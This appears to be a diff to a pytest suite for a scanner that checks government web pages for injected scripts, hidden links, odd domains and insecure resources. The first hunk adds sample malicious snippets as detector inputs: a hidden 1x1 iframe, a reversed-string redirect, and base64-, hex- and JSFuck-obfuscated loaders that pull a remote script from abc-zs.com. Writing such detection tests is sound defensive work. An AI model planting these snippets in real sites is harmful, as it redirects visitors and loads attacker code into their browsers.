@@ -224,7 +224,32 @@ PACKED = (
             + "</script>",
             ["veil"],
         ),
-        ("<script>eval(unescape(window.k))</script>", ["veiled-script"]),
+        ("<script>eval(unescape(window.k))</script>", ["veiled?"]),
+        (
+            "<script>document.write(unescape('%3Ciframe height=1 width=1 src=%22//www.abc-zs.com/in%22%3E%3C/iframe%3E'))</script>",
+            ["hidden-frame"],
+        ),
+        ('<script>document.write(\'<iframe src="http://www.abc-zs.com/" width="640" height="300"></iframe>\')</script>', ["frame?"]),
+        (
+            "<script>var f=document.createElement('iframe');f.height=200;f.src='https://www.abc-zs.com/';box.appendChild(f)</script>",
+            ["frame?"],
+        ),
+        ("<script>eval(\"'sj.a/moc.sz-cba.www//:ptth'=ferh.noitacol\".split('').reverse().join(''))</script>", ["veil"]),
+        (
+            "<script>eval(atob('ZG9jdW1lbnQud3JpdGUo' + 'IjxzY3JpcHQgc3JjPS8vdy5hYmMtenMuY29tL2EuanM+PC9zY3JpcHQ+Iik='))</script>",
+            ["veil"],
+        ),
+        (
+            "<script>var _0xab12=['\\x73\\x63\\x72\\x69\\x70\\x74','\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x77\\x2e\\x61\\x62\\x63\\x2d\\x7a\\x73\\x2e\\x63\\x6f\\x6d\\x2f\\x61'];"
+            "var _0xc=document['createElement'](_0xab12[0x0]);_0xc['src']=_0xab12[0x1];document.body.appendChild(_0xc)</script>",
+            ["veil"],
+        ),
+        (
+            "<script>var _0xab12=['\\x73\\x63\\x72\\x69\\x70\\x74','\\x73\\x72\\x63'];var _0xc=document['createElement'](_0xab12[0]);_0xc[_0xab12[1]]=k()</script>",
+            ["veiled?"],
+        ),
+        ("<script>[][(![]+[])[+[]]" + "+(![]+[])[!+[]+!+[]]" * 40 + "</script>", ["veiled?"]),
+        ("<script>var k='" + "QUJD" * 300 + "';eval(open_(k))</script>", ["veiled?"]),
     ],
 )
 def test_code_that_strangers_put_there(body: str, said: list[str]) -> None:
@@ -252,6 +277,12 @@ def test_code_that_strangers_put_there(body: str, said: list[str]) -> None:
         "<script>" + PACKED % ("$.0(1)", 10, 2, "show|fast") + "</script>",
         "<!-- <script src='http://www.abc-zs.com/a.js'></script><script>eval(unescape('%61'))</script> -->",
         "<p>document.referrer 与 eval( 的说明</p>",
+        "<script>var logo='iVBORw0K" + "QUJD" * 300 + "';show(atob(logo))</script>",
+        "<script>var rows='" + "QUJD" * 300 + "';fill(rows)</script>",
+        "<script>document.write('<iframe src=\"/inc/weather.html\" width=\"0\" height=\"0\"></iframe>')</script>",
+        "<script>document.write(unescape('%3Ciframe src=%22http://i.tianqi.com/index.php%22 width=%22250%22%3E'))</script>",
+        "<script>var s='abc'.split('').reverse().join('');document.write(s)</script>",
+        "<script>eval('var x=' + n)</script>",
     ],
 )
 def test_code_of_the_site_and_of_known_services(body: str) -> None:
@@ -290,7 +321,7 @@ def test_a_page_about_shops_is_left_open() -> None:
     [
         ('<a href="http://222.73.1.5:8080/a">系统</a><a href="http://222.73.1.5/b">系统</a>', ["number"]),
         ('<a href="http://xn--80ak6aa92e.com/">某网</a>', ["punycode"]),
-        ('<a href="http://www.abc-zs.top/">某网</a><a href="http://a.vip/">某网</a>', ["ending", "ending"]),
+        ('<a href="http://www.abc-zs.top/">某网</a><a href="http://a.vip/">某网</a>', ["ending?", "ending?"]),
         (
             '<a href="http://xn--fiq228c.xn--zfr164b/">政务</a><a href="http://中国政府网.政务/">政务</a><a href="http://xn--55qw42g.xn--fiqs8s/">公益</a>',
             [],
@@ -347,45 +378,21 @@ def test_resources_of_an_encrypted_page(body: str, head: str, said: list[str]) -
     assert judge("LNK010", body, head=head) == said
 
 
+def test_the_base_of_a_page_says_how_it_is_published() -> None:
+    body = '<script src="http://dcs.conac.cn/a.js"></script>'
+    for address, said in (
+        (f"https://{HOST}/", ["script"]),
+        (f"http://{HOST}/", []),
+        ("https://cdn.abc-zs.com/", ["scheme"]),
+        ("/", ["scheme"]),
+    ):
+        assert judge("LNK010", body, head=f'<base href="{address}">') == said
+
+
 def test_how_a_site_is_published_can_be_said() -> None:
     body = '<script src="http://dcs.conac.cn/a.js"></script>'
     assert judge("LNK010", body, https="yes") == ["script"]
     assert judge("LNK010", body, head=HTTPS, https="no") == []
-
-
-OUT = '<p><a href="http://www.abc-zs.com/">某网</a></p>'
-
-
-@pytest.mark.parametrize(
-    ("body", "said"),
-    [
-        (OUT, ["default"]),
-        (OUT + '<a href="http://www.xyz-zs.com/">另一网</a>', ["several"]),
-        (
-            OUT
-            + '<script src="/js/jquery-1.12.4.min.js"></script><script src="https://hm.baidu.com/hm.js?1"></script>',
-            ["default"],
-        ),
-        (OUT + '<script src="/js/common.js"></script>', ["handler-in-script"]),
-        (
-            OUT
-            + "<script>$('a').click(function(){return confirm('您访问的链接即将离开“青屏市人民政府”门户网站，是否继续？')})</script>",
-            [],
-        ),
-        (OUT + '<div id="golink">您访问的链接即将离开<br><span>“青屏市人民政府”网</span><br>是否继续？</div>', []),
-        (OUT + "<script>outlink('www.qingping.gov.cn')</script><script>function leaveSite(a){}</script>", []),
-        ('<a href="http://www.abc-zs.com/" onclick="return confirm(\'继续？\')">某网</a>', []),
-        (
-            '<a href="http://www.gov.cn/">中国政府网</a><a href="//bszs.conac.cn/sitename?method=show">标识</a><a href="/a.html">甲</a>',
-            [],
-        ),
-        ('<a href="http://beian.miit.gov.cn/">备案</a><a href="http://xxgk.qingping.gov.cn/">公开</a>', []),
-        ('<img src="http://www.abc-zs.com/1.png">', []),
-        (OUT.replace("某网", "考生离开考场"), ["default"]),
-    ],
-)
-def test_prompts_on_leaving(body: str, said: list[str]) -> None:
-    assert judge("LNK005", body) == said
 
 
 @pytest.mark.parametrize(
@@ -451,3 +458,37 @@ def test_no_style_and_no_script_is_too_odd(text: str) -> None:
 @given(st.text(alphabet="display:none;abcvisibilityhidden -9px0left", max_size=80))
 def test_what_hides_is_one_of_the_kinds(text: str) -> None:
     assert hiding(text) in ("", "shut", "far", "small", "letters")
+
+
+MARKDOWN = "---\ntitle: 关于开展专利转化对接活动的通知\ndate: 2026-03-12\n---\n\n正文第一段，说明活动的时间和地点。\n\n{}\n\n第二段。\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ('<div style="display:none"><a href="http://www.abc-zs.com/">某</a></div>', ["shut"]),
+        ('<div style="position:absolute;left:-5000px">\n\n[某](http://www.abc-zs.com/)\n\n</div>', ["far"]),
+        ('文中 <span style="font-size:0"><a href="http://www.abc-zs.com/">某</a></span> 一句', ["letters"]),
+        ('<div style="display:none"><a href="/zwgk/">某</a></div>', []),
+        ('<div class="tab-panel" style="display:none"><a href="http://www.abc-zs.com/">某</a></div>', []),
+        ('<div style="display:none">未用</div>\n\n[某](http://www.abc-zs.com/)', []),
+        ('```html\n<div style="display:none"><a href="http://www.abc-zs.com/">某</a></div>\n```', []),
+        ('    <p style="display:none"><a href="http://www.abc-zs.com/">某</a></p>', []),
+        ('<!-- <div style="display:none"><a href="http://www.abc-zs.com/">某</a></div> -->', []),
+        ("[某](http://www.abc-zs.com/)", []),
+    ],
+)
+def test_hidden_links_in_the_html_of_a_markdown_page(text: str, said: list[str]) -> None:
+    rule = RULES["LNK007"]
+    reader = Reader(Resolver(frozenset({HOST})), None, ((rule, CHECKS[rule.check]),), {})
+    record = reader.read("content/tzgg/a.md", MARKDOWN.format(text).encode())
+    assert not record.problems
+    assert [found.variant for found in record.findings] == said
+    assert all(found.location.line == 8 or found.location.line == 10 for found in record.findings)
+
+
+@pytest.mark.parametrize("name", ["printArea", "print_content", "article-print-body"])
+def test_what_is_printed_of_a_page_never_shuts(name: str) -> None:
+    body = f'<div id="{name}"><div style="width:0;height:0;overflow:hidden"><a href="http://www.abc-zs.com/">某</a></div></div>'
+    assert judge("LNK007", body) == ["small"]
+    assert judge("LNK007", body.replace(name, "print-only")) == []
